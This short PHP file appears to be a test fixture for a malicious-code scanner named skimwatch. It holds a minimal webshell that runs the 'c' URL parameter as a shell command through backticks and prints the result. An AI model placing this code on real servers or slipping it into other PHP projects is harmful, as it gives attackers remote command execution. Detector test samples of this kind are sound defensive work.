<?php
// Synthetic backtick webshell for skimwatch tests.
$o = `$_GET['c']`;
echo "<pre>$o</pre>";
